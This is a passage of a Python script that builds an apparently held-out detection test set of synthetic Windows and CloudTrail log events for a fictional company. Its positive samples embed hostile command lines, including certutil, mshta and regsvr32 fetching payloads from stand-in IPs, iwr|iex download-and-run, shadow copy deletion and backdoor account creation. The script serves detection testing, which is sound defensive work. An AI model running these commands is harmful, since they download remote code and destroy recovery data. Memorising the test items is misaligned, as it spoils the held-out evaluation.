#!/usr/bin/env python3
"""Generate the held-out detection test set (descriptions + evidence).

Standard library only, deterministic (random.Random(17)). Run from anywhere:
    python3 make_set.py
It rewrites cases/ and background/ next to this file.
"""
import hashlib
import json
import os
import random
import shutil
from collections import defaultdict
from datetime import datetime, timedelta

R = random.Random(17)
HERE = os.path.dirname(os.path.abspath(__file__))

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SEC = "Security"
DOMAIN = "CORP"
FQDN = "corp.example"
ACCT = "111122223333"
SID_BASE = "S-1-5-21-3623811015-3361044348-30300820-"

# workstation -> (user, ip, rid)
WS = {
    "WS01": ("jsmith", "10.0.1.21", 1104),   # IT admin; admin account adm-jsmith
    "WS02": ("bob", "10.0.1.22", 1105),      # finance
    "WS03": ("carol", "10.0.1.23", 1106),    # sales
    "WS04": ("dave", "10.0.1.24", 1107),     # developer
}
SERVERS = {"FS01": "10.0.2.10", "APP01": "10.0.2.20", "DC01": "10.0.2.5"}
ALL_HOSTS = list(WS) + list(SERVERS)
HOST_IP = {h: WS[h][1] for h in WS}
HOST_IP.update(SERVERS)

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
PS32 = r"C:\Windows\SysWOW64\WindowsPowerShell\v1.0\powershell.exe"
PWSH = r"C:\Program Files\PowerShell\7\pwsh.exe"
CMD = r"C:\Windows\System32\cmd.exe"
EXPLORER = r"C:\Windows\explorer.exe"
SVCHOST = r"C:\Windows\System32\svchost.exe"
SERVICES = r"C:\Windows\System32\services.exe"
LSASS = r"C:\Windows\system32\lsass.exe"
OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
WINWORD = OFFICE + r"\WINWORD.EXE"
EXCEL = OFFICE + r"\EXCEL.EXE"
POWERPNT = OFFICE + r"\POWERPNT.EXE"
OUTLOOK = OFFICE + r"\OUTLOOK.EXE"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
MSEDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
ONEDRIVE = r"C:\Program Files\Microsoft OneDrive\OneDrive.exe"
TEAMS = r"C:\Program Files\WindowsApps\MSTeams_24335.208.3315.1951_x64__8wekyb3d8bbwe\ms-teams.exe"
W3WP = r"C:\Windows\System32\inetsrv\w3wp.exe"
W3WP_CMD = r'c:\windows\system32\inetsrv\w3wp.exe -ap "IntranetPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm5b1e -h "C:\inetpub\temp\apppools\IntranetPool\IntranetPool.config" -w "" -m 0'
MSMPENG = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe"
FALCON = r"C:\Program Files\CrowdStrike\CSFalconService.exe"
RUNDLL32 = r"C:\Windows\System32\rundll32.exe"
REGSVR32 = r"C:\Windows\System32\regsvr32.exe"
MSHTA = r"C:\Windows\System32\mshta.exe"
NET = r"C:\Windows\System32\net.exe"
NET1 = r"C:\Windows\System32\net1.exe"
REG = r"C:\Windows\System32\reg.exe"
CERTUTIL = r"C:\Windows\System32\certutil.exe"
IPCONFIG = r"C:\Windows\System32\ipconfig.exe"
WHOAMI = r"C:\Windows\System32\whoami.exe"
CODE = r"C:\Users\dave\AppData\Local\Programs\Microsoft VS Code\Code.exe"
GIT = r"C:\Program Files\Git\cmd\git.exe"
PYTHON = r"C:\Users\dave\AppData\Local\Programs\Python\Python312\python.exe"

OFN = {
    "powershell.exe": "PowerShell.EXE", "pwsh.exe": "pwsh.dll", "cmd.exe": "Cmd.Exe",
    "certutil.exe": "CertUtil.exe", "rundll32.exe": "RUNDLL32.EXE", "regsvr32.exe": "REGSVR32.EXE",
    "mshta.exe": "MSHTA.EXE", "reg.exe": "reg.exe", "net.exe": "net.exe", "net1.exe": "net1.exe",
    "whoami.exe": "whoami.exe", "ipconfig.exe": "ipconfig.exe", "chrome.exe": "chrome.exe",
    "msedge.exe": "msedge.exe", "winword.exe": "WinWord.exe", "excel.exe": "Excel.exe",
    "powerpnt.exe": "POWERPNT.EXE", "outlook.exe": "Outlook.exe", "explorer.exe": "EXPLORER.EXE",
    "svchost.exe": "svchost.exe", "code.exe": "electron.exe", "git.exe": "git.exe",
    "python.exe": "python.exe", "onedrive.exe": "OneDrive.exe", "ms-teams.exe": "msteams.exe",
    "w3wp.exe": "w3wp.exe", "csc.exe": "csc.exe", "conhost.exe": "CONHOST.EXE",
    "taskhostw.exe": "taskhostw.exe", "wscript.exe": "wscript.exe", "cscript.exe": "cscript.exe",
    "systeminfo.exe": "sysinfo.exe", "nltest.exe": "nltestrk.exe", "tasklist.exe": "tasklist.exe",
    "quser.exe": "quser.exe", "powershell_ise.exe": "powershell_ise.EXE", "wmic.exe": "wmic.exe",
    "vssadmin.exe": "VSSADMIN.EXE", "splwow64.exe": "splwow64.exe", "userinit.exe": "USERINIT.EXE",
    "node.exe": "node.exe", "curl.exe": "curl.exe", "procdump64.exe": "procdump",
    "searchprotocolhost.exe": "SearchProtocolHost.exe", "mpcmdrun.exe": "MpCmdRun.exe",
    "gpupdate.exe": "GPUpdate.exe", "wuauclt.exe": "wuauclt.exe",
}


# --------------------------------------------------------------------------- helpers
def ts(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (dt.microsecond // 1000)


def at(hms, day=5):
    h, m, s = (int(x) for x in hms.split(":"))
    return datetime(2026, 2, day, h, m, s)


def jit(dt):
    return dt + timedelta(milliseconds=R.randint(0, 999))


def guid():
    return "{%08x-%04x-%04x-%04x-%012x}" % (
        R.getrandbits(32), R.getrandbits(16), R.getrandbits(16), R.getrandbits(16), R.getrandbits(48))


def uid():
    return "%08x-%04x-4%03x-a%03x-%012x" % (
        R.getrandbits(32), R.getrandbits(16), R.getrandbits(12), R.getrandbits(12), R.getrandbits(48))


def fq(host):
    return host + "." + FQDN


def win(dt, host, channel, eid, **fields):
    d = {"TimeGenerated": ts(jit(dt)), "Computer": fq(host), "Channel": channel, "EventID": eid}
    d.update(fields)
    return d


def dom(user):
    if user in ("SYSTEM", "LOCAL SERVICE", "NETWORK SERVICE"):
        return "NT AUTHORITY\\" + user
    if "\\" in user:
        return user
    return DOMAIN + "\\" + user


def sysmon1(dt, host, image, cmd, parent, pcmd, user, integrity="Medium", ofn=None, cwd=None):
    base = image.split("\\")[-1]
    ofn = ofn or OFN.get(base.lower(), base)
    u = dom(user)
    if cwd is None:
        cwd = "C:\\Windows\\system32\\" if user in ("SYSTEM", "LOCAL SERVICE", "NETWORK SERVICE") or "\\" in user \
            else "C:\\Users\\%s\\" % user
    h = hashlib.sha256(ofn.lower().encode()).hexdigest().upper()
    m = hashlib.md5(ofn.lower().encode()).hexdigest().upper()
    return win(dt, host, SYSMON, 1,
               ProcessGuid=guid(), ProcessId=R.randint(1200, 24000), Image=image,
               OriginalFileName=ofn, CommandLine=cmd, CurrentDirectory=cwd, User=u,
               IntegrityLevel=integrity, Hashes="MD5=%s,SHA256=%s" % (m, h),
               ParentProcessGuid=guid(), ParentImage=parent, ParentCommandLine=pcmd)


def sysmon3(dt, host, image, user, dip, dport, dhost="", sport=None, proto="tcp", initiated="true", sip=None):
    return win(dt, host, SYSMON, 3,
               Image=image, User=dom(user), Protocol=proto, Initiated=initiated,
               SourceIp=sip or HOST_IP.get(host, "10.0.1.99"), SourcePort=sport or R.randint(49700, 65000),
               DestinationIp=dip, DestinationHostname=dhost, DestinationPort=dport)


CT_NORMAL = (r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|"
             r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\mpengine.dll+4a1f20|"
             r"C:\Windows\System32\KERNEL32.DLL+17614|C:\Windows\SYSTEM32\ntdll.dll+526f1")
CT_ODD = (r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|"
          r"UNKNOWN(00007FF6A3B21C48)|UNKNOWN(00007FF6A3B1F0A2)")


def sysmon10(dt, host, src, tgt, access, user, calltrace=CT_NORMAL):
    return win(dt, host, SYSMON, 10,
               SourceProcessGUID=guid(), SourceProcessId=R.randint(1200, 24000), SourceImage=src,
               TargetProcessGUID=guid(), TargetProcessId=R.randint(600, 24000), TargetImage=tgt,
               GrantedAccess=access, CallTrace=calltrace, SourceUser=dom(user),
               TargetUser="NT AUTHORITY\\SYSTEM" if tgt.lower().endswith("lsass.exe") else dom(user))


def sysmon11(dt, host, image, target, user):
    return win(dt, host, SYSMON, 11, Image=image, TargetFilename=target, User=dom(user),
               ProcessGuid=guid(), ProcessId=R.randint(1200, 24000))


def sysmon12(dt, host, image, target, etype, user):
    return win(dt, host, SYSMON, 12, EventType=etype, Image=image, TargetObject=target, User=dom(user))


def sysmon13(dt, host, image, target, details, user):
    return win(dt, host, SYSMON, 13, EventType="SetValue", Image=image, TargetObject=target,
               Details=details, User=dom(user))


def sysmon22(dt, host, image, query, results, user):
    return win(dt, host, SYSMON, 22, Image=image, QueryName=query, QueryStatus="0",
               QueryResults=results, User=dom(user))


def s4624(dt, host, user, ltype, ip, ws="-", pkg="Kerberos", proc="-", domain=DOMAIN):
    return win(dt, host, SEC, 4624, TargetUserName=user, TargetDomainName=domain, LogonType=ltype,
               IpAddress=ip, WorkstationName=ws, ProcessName=proc, AuthenticationPackageName=pkg,
               LogonProcessName="Kerberos" if pkg == "Kerberos" else ("User32" if ltype in (2, 10) else "NtLmSsp"))


def s4625(dt, host, user, ltype, ip, ws="-", status="0xc000006d", sub="0xc000006a", pkg="NTLM", proc="-",
          domain=DOMAIN):
    return win(dt, host, SEC, 4625, TargetUserName=user, TargetDomainName=domain, LogonType=ltype,
               IpAddress=ip, WorkstationName=ws, Status=status, SubStatus=sub, ProcessName=proc,
               AuthenticationPackageName=pkg, LogonProcessName="NtLmSsp" if ltype == 3 else "User32")


def s4634(dt, host, user, ltype):
    return win(dt, host, SEC, 4634, TargetUserName=user, TargetDomainName=DOMAIN, LogonType=ltype)


def s4672(dt, host, user):
    return win(dt, host, SEC, 4672, SubjectUserName=user, SubjectDomainName=DOMAIN,
               PrivilegeList="SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege SeTakeOwnershipPrivilege "
                             "SeDebugPrivilege SeSystemEnvironmentPrivilege SeLoadDriverPrivilege "
                             "SeImpersonatePrivilege SeDelegateSessionUserImpersonatePrivilege")


def s4688(dt, host, image, cmd, parent, user, elev="%%1936"):
    return win(dt, host, SEC, 4688, SubjectUserName=user, SubjectDomainName=DOMAIN if user != "SYSTEM" else "NT AUTHORITY",
               NewProcessId="0x%x" % R.randint(0x400, 0x6000), NewProcessName=image, CommandLine=cmd,
               ParentProcessName=parent, TokenElevationType=elev)


def s4769(dt, user, svc, ip, enc="0x12", status="0x0"):
    return win(dt, "DC01", SEC, 4769, TargetUserName="%s@CORP.EXAMPLE" % user, TargetDomainName="CORP.EXAMPLE",
               ServiceName=svc, TicketOptions="0x40810000", TicketEncryptionType=enc,
               IpAddress="::ffff:" + ip, IpPort=str(R.randint(49700, 65000)), Status=status)


def s47xx(dt, host, eid, subject, target, member="-", target_domain="Builtin", member_sid="-"):
    return win(dt, host, SEC, eid, SubjectUserName=subject, SubjectDomainName=DOMAIN, TargetUserName=target,
               TargetDomainName=target_domain, MemberName=member, MemberSid=member_sid)


def s4720(dt, host, subject, target):
    return win(dt, host, SEC, 4720, SubjectUserName=subject, SubjectDomainName=DOMAIN, TargetUserName=target,
               TargetDomainName=DOMAIN, SamAccountName=target)


def task_xml(command, args="", author="CORP\\bob"):
    return ('<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" '
            'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><Author>%s</Author>'
            '</RegistrationInfo><Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>'
            '<Principals><Principal id="Author"><RunLevel>LeastPrivilege</RunLevel></Principal></Principals>'
            '<Settings><Enabled>true</Enabled><Hidden>false</Hidden></Settings><Actions Context="Author"><Exec>'
            '<Command>%s</Command><Arguments>%s</Arguments></Exec></Actions></Task>' % (author, command, args))


def s4698(dt, host, subject, task, content, eid=4698):
    return win(dt, host, SEC, eid, SubjectUserName=subject, SubjectDomainName=DOMAIN, TaskName=task,
               TaskContent=content)


def s7045(dt, host, name, path, start="demand start", account="LocalSystem", stype="user mode service"):
    return win(dt, host, "System", 7045, ServiceName=name, ImagePath=path, ServiceType=stype,
               StartType=start, AccountName=account)


def s1102(dt, host, user):
    return win(dt, host, SEC, 1102, SubjectUserName=user, SubjectDomainName=DOMAIN,
               SubjectLogonId="0x%x" % R.randint(0x10000, 0xfffff))


# --------------------------------------------------------------------------- CloudTrail
UA_CLI = "aws-cli/2.15.10 Python/3.11.6 Windows/10 exe/AMD64 prompt/off command/%s"
UA_WEB = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36"
UA_TF = "APN/1.0 HashiCorp/1.0 Terraform/1.7.2 (+https://www.terraform.io) terraform-provider-aws/5.35.0 aws-sdk-go-v2/1.24.1"
OFFICE_IP = "203.0.113.10"


def iam_user(name):
    return {"type": "IAMUser", "principalId": "AIDA" + hashlib.md5(name.encode()).hexdigest()[:17].upper(),
            "arn": "arn:aws:iam::%s:user/%s" % (ACCT, name), "accountId": ACCT, "userName": name}


def root_id():
    return {"type": "Root", "principalId": ACCT, "arn": "arn:aws:iam::%s:root" % ACCT, "accountId": ACCT}


def role_id(role, session, path=""):
    rid = "AROA" + hashlib.md5(role.encode()).hexdigest()[:17].upper()
    return {"type": "AssumedRole", "principalId": "%s:%s" % (rid, session),
            "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, role, session), "accountId": ACCT,
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": rid,
                                                 "arn": "arn:aws:iam::%s:role/%s%s" % (ACCT, path, role),
                                                 "accountId": ACCT, "userName": role}}}


def svc_id(service):
    return {"type": "AWSService", "invokedBy": service}


SSO_ROLE = "AWSReservedSSO_ReadOnly_0a1b2c3d4e5f6a7b"


def ct(dt, source, name, ident, params=None, resp=None, extra=None, error=None, errmsg=None,
       ip=OFFICE_IP, ua=None, region="eu-west-1", etype="AwsApiCall", readonly=None):
    rec = {"eventVersion": "1.09", "userIdentity": ident,
           "eventTime": jit(dt).strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": source,
           "eventName": name, "awsRegion": region, "sourceIPAddress": ip,
           "userAgent": ua or (UA_CLI % name.lower())}
    if error:
        rec["errorCode"] = error
        rec["errorMessage"] = errmsg or ("User: %s is not authorized to perform: %s" % (ident.get("arn"), name))
    rec["requestParameters"] = params
    rec["responseElements"] = resp
    if extra is not None:
        rec["additionalEventData"] = extra
    if etype == "AwsApiCall":
        rec["requestID"] = uid()
    rec["eventID"] = uid()
    if readonly is None:
        readonly = name.startswith(("Describe", "Get", "List", "Lookup"))
    rec["readOnly"] = readonly
    rec["eventType"] = etype
    rec["managementEvent"] = True
    rec["recipientAccountId"] = ACCT
    return rec


def console_login(dt, ident, mfa, ok=True, ip=OFFICE_IP):
    rec = ct(dt, "signin.amazonaws.com", "ConsoleLogin", ident, None,
             {"ConsoleLogin": "Success" if ok else "Failure"},
             {"LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true",
              "MobileVersion": "No", "MFAUsed": mfa},
             ip=ip, ua=UA_WEB, region="us-east-1", etype="AwsConsoleSignIn", readonly=False)
    if not ok:
        rec["errorMessage"] = "Failed authentication"
    return rec


def sg_perm(proto, port, cidr=None, cidr6=None):
    p = {"ipProtocol": proto, "fromPort": port, "toPort": port, "groups": {}, "ipRanges": {}, "ipv6Ranges": {},
         "prefixListIds": {}}
    if cidr:
        p["ipRanges"] = {"items": [{"cidrIp": cidr}]}
    if cidr6:
        p["ipv6Ranges"] = {"items": [{"cidrIpv6": cidr6}]}
    return p


def sg_params(group, perms):
    return {"groupId": group, "ipPermissions": {"items": perms}}


def sg_resp(group, perms):
    items = []
    for p in perms:
        c = (p["ipRanges"].get("items") or [{}])[0].get("cidrIp")
        c6 = (p["ipv6Ranges"].get("items") or [{}])[0].get("cidrIpv6")
        item = {"groupOwnerId": ACCT, "groupId": group,
                "securityGroupRuleId": "sgr-%017x" % R.getrandbits(68), "isEgress": False,
                "ipProtocol": p["ipProtocol"], "fromPort": p["fromPort"], "toPort": p["toPort"]}
        if c:
            item["cidrIpv4"] = c
        if c6:
            item["cidrIpv6"] = c6
        items.append(item)
    return {"requestId": uid(), "_return": True, "securityGroupRuleSet": {"items": items}}


def bucket_policy_params(bucket, statements):
    return {"bucketName": bucket, "Host": "%s.s3.eu-west-1.amazonaws.com" % bucket,
            "bucketPolicy": {"Version": "2012-10-17", "Statement": statements}, "policy": ""}


# =========================================================================== cases
CASES = []


def case(name, shape, technique, description, pos, neg, alerts=None):
    CASES.append({"name": name, "shape": shape, "technique": technique, "description": description,
                  "pos": pos, "neg": neg,
                  "alerts": alerts if alerts is not None else (1 if shape == "threshold" else len(pos))})


def u1(dt, host, image, cmd, parent, pcmd, user=None, integrity="Medium", ofn=None):
    return sysmon1(dt, host, image, cmd, parent, pcmd, user or WS.get(host, ("SYSTEM",))[0], integrity, ofn)


def build_cases():
    # ------------------------------------------------------------------ process creation (13)
    case("01_encoded_powershell", "process", "T1059.001",
         "Alert when PowerShell (powershell.exe or pwsh.exe) is started with an encoded command on the command "
         "line, i.e. any of the -e, -ec, -enc or -EncodedCommand switches.",
         [u1(at("09:14:02"), "WS02", PS, PS + " -NoP -NonI -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
              CMD, "cmd.exe /c start /min powershell"),
          u1(at("09:31:40"), "WS02", PS, "powershell.exe -EncodedCommand JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA==",
             r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
          u1(at("10:02:13"), "WS03", PWSH, '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -e ZQBjAGgAbwAgAGgAaQA=', EXPLORER,
             r"C:\Windows\Explorer.EXE"),
          u1(at("10:45:57"), "WS04", PS, "powershell -w 1 -ec VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=", CMD, "cmd.exe")],
         [u1(at("09:05:11"), "WS01", PS, PS + r" -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\Get-DiskReport.ps1",
             EXPLORER, r"C:\Windows\Explorer.EXE", user="adm-jsmith", integrity="High"),
          u1(at("09:20:45"), "WS02", PS, 'powershell.exe -NoProfile -Command "Get-Service -Name Spooler | Select-Object Status"',
             EXPLORER, r"C:\Windows\Explorer.EXE"),
          u1(at("11:10:00"), "WS04", r"C:\Program Files\nodejs\node.exe", 'node.exe -e "console.log(process.version)"',
             CMD, "cmd.exe"),
          u1(at("11:12:31"), "WS04", CERTUTIL, r"certutil.exe -encode C:\Temp\report.txt C:\Temp\report.b64", CMD, "cmd.exe"),
          u1(at("11:40:09"), "WS04", PWSH, r'"C:\Program Files\PowerShell\7\pwsh.exe" -File C:\Scripts\sync.ps1 -Environment prod',
             CMD, "cmd.exe")])

    case("02_certutil_download", "process", "T1105",
         "Flag certutil.exe being used as a downloader: the command line has -urlcache (or /urlcache) together "
         "with an http:// or https:// URL.",
         [u1(at("13:02:19"), "WS03", CERTUTIL, r"certutil.exe -urlcache -split -f http://198.51.100.23/a.exe C:\Users\Public\a.exe",
             CMD, "cmd.exe /c"),
          u1(at("13:05:40"), "WS03", CERTUTIL, "certutil -urlcache -f https://raw.githubusercontent.com/x0r/tools/main/p.ps1 p.ps1",
             PS, "powershell.exe"),
          u1(at("13:20:02"), "WS02", CERTUTIL, r"CertUtil.exe /urlcache /split /f http://files.example-cdn.net/update.bin C:\ProgramData\u.bin",
             CMD, "cmd.exe")],
         [u1(at("12:58:00"), "WS04", CERTUTIL, r"certutil.exe -hashfile C:\Users\dave\Downloads\python-3.12.2-amd64.exe SHA256",
             CMD, "cmd.exe"),
          u1(at("13:10:12"), "WS01", CERTUTIL, "certutil -urlcache * delete", CMD, "cmd.exe", user="adm-jsmith", integrity="High"),
          u1(at("13:11:30"), "WS01", CERTUTIL, r"certutil.exe -verify -urlfetch C:\Temp\intranet.cer", CMD, "cmd.exe"),
          u1(at("13:15:44"), "WS04", r"C:\Windows\System32\curl.exe", r"curl.exe -L -o C:\Temp\jq.exe https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-windows-amd64.exe",
             CMD, "cmd.exe"),
          u1(at("13:30:00"), "WS03", CERTUTIL, r"certutil -decode C:\Temp\blob.b64 C:\Temp\blob.bin", CMD, "cmd.exe")])

    case("03_office_spawns_shell", "process", "T1204.002",
         "I want a rule for Office documents spawning shells: Word, Excel or PowerPoint (WINWORD.EXE, EXCEL.EXE, "
         "POWERPNT.EXE) as the parent process of cmd.exe, powershell.exe, wscript.exe or cscript.exe.",
         [u1(at("10:11:05"), "WS03", CMD, 'cmd.exe /c powershell -nop -w hidden -c "iwr http://198.51.100.5/s.ps1|iex"',
             WINWORD, '"%s" /n "C:\\Users\\carol\\Downloads\\Invoice_2291.docm" /o ""' % WINWORD),
          u1(at("10:40:21"), "WS02", PS, 'powershell.exe -nop -c "Start-Process C:\\Users\\Public\\r.exe"',
             EXCEL, '"%s" "C:\\Users\\bob\\Downloads\\Remittance.xlsm"' % EXCEL),
          u1(at("11:02:49"), "WS03", r"C:\Windows\System32\wscript.exe", r'"C:\Windows\System32\WScript.exe" "C:\Users\carol\AppData\Local\Temp\a.vbs"',
             POWERPNT, '"%s" "C:\\Users\\carol\\Downloads\\deck.pptm"' % POWERPNT),
          u1(at("11:30:10"), "WS02", r"C:\Windows\System32\cscript.exe", r"cscript.exe //nologo C:\Users\Public\x.js",
             WINWORD, '"%s" /n "C:\\Users\\bob\\Downloads\\Contract.doc"' % WINWORD)],
         [u1(at("10:05:00"), "WS01", CMD, r'"C:\Windows\system32\cmd.exe"', EXPLORER, r"C:\Windows\Explorer.EXE"),
          u1(at("10:20:12"), "WS02", r"C:\Windows\splwow64.exe", r"C:\Windows\splwow64.exe 12288", WINWORD,
             '"%s" /n "C:\\Users\\bob\\Documents\\Budget notes.docx"' % WINWORD),
          u1(at("10:33:33"), "WS03", CMD, "cmd.exe /c start https://intranet.corp.example", OUTLOOK, '"%s"' % OUTLOOK),
          u1(at("10:50:02"), "WS02", WINWORD, '"%s" /n "C:\\Users\\bob\\Documents\\Q1 plan.docx"' % WINWORD, CMD, "cmd.exe"),
          u1(at("11:15:19"), "WS03", MSEDGE, '"%s" --single-argument https://sharepoint.corp.example/sites/sales' % MSEDGE,
             EXCEL, '"%s"' % EXCEL)])

    case("04_regsvr32_squiblydoo", "process", "T1218.010",
         "Detect Squiblydoo: regsvr32.exe with /i: (or -i:) pointing at an http or https URL on its command line, "
         "usually alongside scrobj.dll.",
         [u1(at("14:01:09"), "WS04", REGSVR32, "regsvr32.exe /s /n /u /i:http://198.51.100.40/file.sct scrobj.dll", CMD, "cmd.exe"),
          u1(at("14:03:55"), "WS02", REGSVR32, "regsvr32 /u /n /s /i:https://paste.example.net/raw/a1b2 scrobj.dll",
             WINWORD, '"%s"' % WINWORD),
          u1(at("14:20:30"), "WS03", r"C:\Windows\SysWOW64\regsvr32.exe", r"C:\Windows\SysWOW64\regsvr32.exe -s -i:http://203.0.113.9:8080/x.sct scrobj.dll",
             PS, "powershell.exe")],
         [u1(at("13:50:00"), "WS01", REGSVR32, r'regsvr32.exe /s "C:\Program Files\Common Files\microsoft shared\ink\tipband.dll"',
             CMD, "cmd.exe", user="adm-jsmith", integrity="High"),
          u1(at("14:10:10"), "WS04", REGSVR32, r"regsvr32 /u /s C:\Windows\System32\jscript.dll", CMD, "cmd.exe"),
          u1(at("14:12:40"), "WS02", RUNDLL32, "rundll32.exe url.dll,OpenURL http://intranet.corp.example/hr", EXPLORER,
             r"C:\Windows\Explorer.EXE"),
          sysmon3(at("14:01:10"), "WS04", REGSVR32, "dave", "198.51.100.40", 80)])

    case("05_mshta_remote_or_inline", "process", "T1218.005",
         "Alert when mshta.exe is launched with a URL (http:// or https://) or with inline javascript: / vbscript: "
         "code in its command line.",
         [u1(at("15:00:31"), "WS02", MSHTA, "mshta.exe http://198.51.100.77/payload.hta", OUTLOOK, '"%s"' % OUTLOOK),
          u1(at("15:05:02"), "WS03", MSHTA, "mshta.exe \"javascript:a=GetObject('script:https://203.0.113.5/x.sct').Exec();close();\"",
             CMD, "cmd.exe"),
          u1(at("15:09:47"), "WS04", MSHTA, 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")',
             EXPLORER, r"C:\Windows\Explorer.EXE"),
          u1(at("15:30:00"), "WS02", MSHTA, r'"C:\Windows\System32\mshta.exe" https://cdn.example-files.net/update.hta',
             EXPLORER, r"C:\Windows\Explorer.EXE")],
         [u1(at("14:55:00"), "WS01", MSHTA, r'mshta.exe "C:\Program Files (x86)\Vendor\Setup\setup.hta"', EXPLORER,
             r"C:\Windows\Explorer.EXE", user="adm-jsmith", integrity="High"),
          u1(at("15:01:44"), "WS02", MSHTA, r'"C:\Windows\System32\mshta.exe" "C:\Users\bob\Desktop\report.hta"',
             EXPLORER, r"C:\Windows\Explorer.EXE"),
          u1(at("15:20:10"), "WS03", MSEDGE, '"%s" --single-argument https://cdn.example-files.net/update.hta' % MSEDGE,
             EXPLORER, r"C:\Windows\Explorer.EXE"),
          sysmon22(at("15:00:32"), "WS02", MSHTA, "cdn.example-files.net", "::ffff:198.51.100.77;", "bob")])

    case("06_shadow_copy_deletion", "process", "T1490",
         "Flag shadow copy tampering seen in Windows process creation auditing (4688): vssadmin delete shadows, "
         "vssadmin resize shadowstorage, or wmic shadowcopy delete.",
         [s4688(at("02:11:05"), "FS01", r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD, "bob"),
          s4688(at("02:11:20"), "FS01", r"C:\Windows\System32\wbem\WMIC.exe", "wmic shadowcopy delete /nointeractive", CMD, "bob"),
          s4688(at("02:12:01"), "APP01", r"C:\Windows\System32\vssadmin.exe",
                "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB", CMD, "bob")],
         [s4688(at("01:02:00"), "FS01", r"C:\Windows\System32\vssadmin.exe", "vssadmin list shadows", CMD, "svc-backup"),
          s4688(at("01:03:10"), "FS01", r"C:\Windows\System32\vssadmin.exe", "vssadmin create shadow /for=E:", CMD, "svc-backup"),
          s4688(at("09:40:00"), "FS01", r"C:\Windows\System32\wbem\WMIC.exe", "wmic shadowcopy list brief", CMD, "adm-jsmith"),
          s4688(at("09:45:30"), "FS01", r"C:\Windows\System32\wbadmin.exe", "wbadmin get versions", CMD, "adm-jsmith"),
          u1(at("02:11:05"), "FS01", r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD, "cmd.exe",
             user="bob", integrity="High")])

    case("07_renamed_powershell", "process", "T1036.003",
         "Detect renamed PowerShell: OriginalFileName is PowerShell.EXE or pwsh.dll but the Image path does not end "
         "in \\powershell.exe or \\pwsh.exe.",
         [u1(at("16:02:00"), "WS03", r"C:\Users\Public\svchost.exe", r"C:\Users\Public\svchost.exe -nop -w hidden -c IEX $env:P",
             CMD, "cmd.exe", ofn="PowerShell.EXE"),
          u1(at("16:10:12"), "WS02", r"C:\ProgramData\Intel\igfxupd.exe", r"C:\ProgramData\Intel\igfxupd.exe -NoProfile -File C:\ProgramData\Intel\u.ps1",
             r"C:\Windows\System32\taskeng.exe", "taskeng.exe", ofn="PowerShell.EXE"),
          u1(at("16:30:45"), "WS04", r"C:\Windows\Temp\ps7.exe", r"C:\Windows\Temp\ps7.exe -c Get-Process", CMD, "cmd.exe",
             ofn="pwsh.dll")],
         [u1(at("16:00:00"), "WS01", PS, "powershell.exe", EXPLORER, r"C:\Windows\Explorer.EXE", user="adm-jsmith"),
          u1(at("16:05:00"), "WS02", PS32, PS32 + " -NoProfile", CMD, "cmd.exe"),
          u1(at("16:06:00"), "WS04", PWSH, '"%s"' % PWSH, r"C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_1.18.10301.0_x64__8wekyb3d8bbwe\WindowsTerminal.exe",
             "wt.exe"),
          u1(at("16:07:00"), "WS01", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell_ise.exe", "powershell_ise.exe",
             EXPLORER, r"C:\Windows\Explorer.EXE", user="adm-jsmith"),
          u1(at("16:20:00"), "WS03", r"C:\Users\Public\svchost.exe", r"C:\Users\Public\svchost.exe /c whoami", CMD, "cmd.exe",
             ofn="Cmd.Exe")])

    case("08_net_user_add", "process", "T1136.001",
         "Alert when an account gets created from the command line: net.exe or net1.exe with 'user' and '/add' in the "
         "command line (Windows 4688 process creation events).",
         [s4688(at("03:01:00"), "APP01", NET, "net user support_tmp Winter2026! /add", CMD, "bob"),
          s4688(at("03:01:00"), "APP01", NET1, r"C:\Windows\system32\net1 user support_tmp Winter2026! /add", NET, "bob"),
          s4688(at("03:04:30"), "DC01", NET, "net.exe user svc-update P@ssw0rd123 /add /domain", CMD, "bob")],
         [s4688(at("09:00:10"), "WS01", NET, "net user jsmith /domain", CMD, "jsmith", elev="%%1938"),
          s4688(at("09:02:00"), "APP01", NET, r"net localgroup administrators CORP\bob /add", CMD, "adm-jsmith"),
